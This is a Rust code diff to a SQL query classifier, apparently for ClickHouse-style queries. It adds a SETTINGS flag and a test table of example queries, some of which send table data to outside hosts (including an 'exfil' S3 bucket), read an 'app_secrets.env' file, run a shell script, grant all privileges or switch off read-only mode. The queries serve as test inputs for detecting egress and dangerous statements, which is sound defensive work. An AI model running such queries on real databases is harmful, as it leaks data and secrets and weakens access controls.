@@ -128,6 +128,8 @@ pub struct QueryClass {
     pub has_limit: bool,
     /// The output format named by `FORMAT x`.
     pub format: Option<String>,
+    /// A top-level `SETTINGS` clause appears (e.g. `max_result_bytes`, `readonly` overrides).
+    pub has_settings: bool,
 }
 
 impl QueryClass {
@@ -333,6 +335,8 @@ pub fn classify(query: &str) -> QueryClass {
                     }
                 } else if eq(w, "LIMIT") {
                     class.has_limit = true;
+                } else if eq(w, "SETTINGS") && depth <= 0 {
+                    class.has_settings = true;
                 } else if eq(w, "FORMAT") && depth <= 0 {
                     if let Some(Tok::Word(f)) = next(1) {
                         class.format = Some(f.to_owned());
@@ -568,6 +572,132 @@ mod tests {
         assert!(c.table_functions.is_empty());
         let c = classify("SELECT 1 INTO OUTFILE 'dump.tsv'");
         assert!(c.into_outfile);
+    }
+
+    /// Every statement kind and every table function issue #3 asks for, in one table.
+    #[test]
+    fn ok_issue_3_table() {
+        struct Case {
+            q: &'static str,
+            kind: StatementKind,
+            tables: &'static [&'static str],
+            functions: &'static [(&'static str, Option<&'static str>)],
+        }
+        let c = |q, kind, tables, functions| Case {
+            q,
+            kind,
+            tables,
+            functions,
+        };
+        use StatementKind as K;
+        let cases = [
+            c("SELECT * FROM default.log_stream", K::Select, &["default.log_stream"][..], &[][..]),
+            c("WITH x AS (SELECT 1) SELECT * FROM system.users", K::Select, &["system.users"], &[]),
+            c("SHOW TABLES", K::Show, &[], &[]),
+            c("SHOW DATABASES", K::Show, &[], &[]),
+            c("SHOW GRANTS FOR default", K::Show, &[], &[]),
+            c("DESCRIBE TABLE system.columns", K::Describe, &[], &[]),
+            c("EXISTS TABLE app.users", K::Exists, &[], &[]),
+            c("INSERT INTO app.orders FORMAT TabSeparated", K::Insert, &[], &[]),
+            c(
+                "INSERT INTO FUNCTION url('http://203.0.113.9:8000/x.tsv', 'TSV', 'a String') SELECT * FROM default.log_stream",
+                K::InsertIntoFunction,
+                &["default.log_stream"],
+                &[("url", Some("203.0.113.9"))],
+            ),
+            c(
+                "INSERT INTO FUNCTION s3('https://exfil.s3.amazonaws.com/d.csv', 'AKIAFAKE', '[HIDDEN]', 'CSV') SELECT 1",
+                K::InsertIntoFunction,
+                &[],
+                &[("s3", Some("exfil.s3.amazonaws.com"))],
+            ),
+            c(
+                "INSERT INTO TABLE FUNCTION remote('203.0.113.10:9000', 'db', 't', 'u', 'p') SELECT 1",
+                K::InsertIntoFunction,
+                &[],
+                &[("remote", Some("203.0.113.10"))],
+            ),
+            c("CREATE USER u IDENTIFIED BY 'x'", K::Create, &[], &[]),
+            c("ALTER TABLE t UPDATE a = 1 WHERE 1", K::Alter, &[], &[]),
+            c("DROP TABLE IF EXISTS t", K::Drop, &[], &[]),
+            c("GRANT ALL ON *.* TO u", K::Grant, &[], &[]),
+            c("SYSTEM RELOAD CONFIG", K::System, &[], &[]),
+            c("SET readonly = 0", K::Set, &[], &[]),
+            c("KILL QUERY WHERE user = 'x'", K::Kill, &[], &[]),
+            c("OPTIMIZE TABLE t", K::Optimize, &[], &[]),
+            // A backup to S3 is egress too: the function is reported.
+            c(
+                "BACKUP DATABASE db TO S3('https://b.example/k')",
+                K::Backup,
+                &[],
+                &[("s3", Some("b.example"))],
+            ),
+            c("RENAME TABLE a TO b", K::Rename, &[], &[]),
+            c("EXPLAIN SELECT 1", K::Explain, &[], &[]),
+            c(
+                "SELECT * FROM file('app_secrets.env', 'TSV', 'line String')",
+                K::Select,
+                &[],
+                &[("file", Some("app_secrets.env"))],
+            ),
+            c(
+                "select * from S3Cluster('c', 'https://bucket.example.org/k')",
+                K::Select,
+                &[],
+                &[("s3cluster", Some("c"))],
+            ),
+            c(
+                "SELECT * FROM mysql('db.internal:3306', 'shop', 'users', 'u', 'p')",
+                K::Select,
+                &[],
+                &[("mysql", Some("db.internal"))],
+            ),
+            c(
+                "SELECT * FROM postgresql('10.1.1.1:5432', 'd', 't', 'u', 'p') /* url('x') */",
+                K::Select,
+                &[],
+                &[("postgresql", Some("10.1.1.1"))],
+            ),
+            c(
+                "SELECT * FROM executable('x.sh', 'TSV', 'a String')",
+                K::Select,
+                &[],
+                &[("executable", Some("x.sh"))],
+            ),
+        ];
+        for case in cases {
+            let got = classify(case.q);
+            assert_eq!(got.kind(), case.kind, "{}", case.q);
+            assert_eq!(got.tables, case.tables, "{}", case.q);
+            let f: Vec<(&str, Option<&str>)> = got
+                .table_functions
+                .iter()
+                .map(|f| (f.name.as_str(), f.destination.as_deref()))
+                .collect();
+            assert_eq!(f, case.functions, "{}", case.q);
+        }
+        // Every egress-capable table function is recognised, in any case, with its URL host.
+        for name in EGRESS_FUNCTIONS {
+            let q = format!(
+                "SELECT * FROM {}('http://203.0.113.9:8123/k', 'a')",
+                name.to_uppercase()
+            );
+            let got = classify(&q);
+            let first = got.table_functions.first();
+            assert_eq!(first.map(|f| f.name.as_str()), Some(*name), "{q}");
+            assert!(
+                first.and_then(|f| f.destination.as_deref()).is_some(),
+                "{q}"
+            );
+        }
+        // The clause flags.
+        let got = classify(
+            "SELECT * FROM t LIMIT 5 INTO OUTFILE 'x' FORMAT CSV SETTINGS max_threads = 1",
+        );
+        assert!(got.select_star && got.has_limit && got.into_outfile && got.has_settings);
+        assert_eq!(got.format.as_deref(), Some("CSV"));
+        let got = classify("SELECT a FROM t WHERE s = 'SETTINGS LIMIT *' -- FORMAT JSON");
+        assert!(!got.select_star && !got.has_limit && !got.has_settings && got.format.is_none());
     }
 
     #[test]
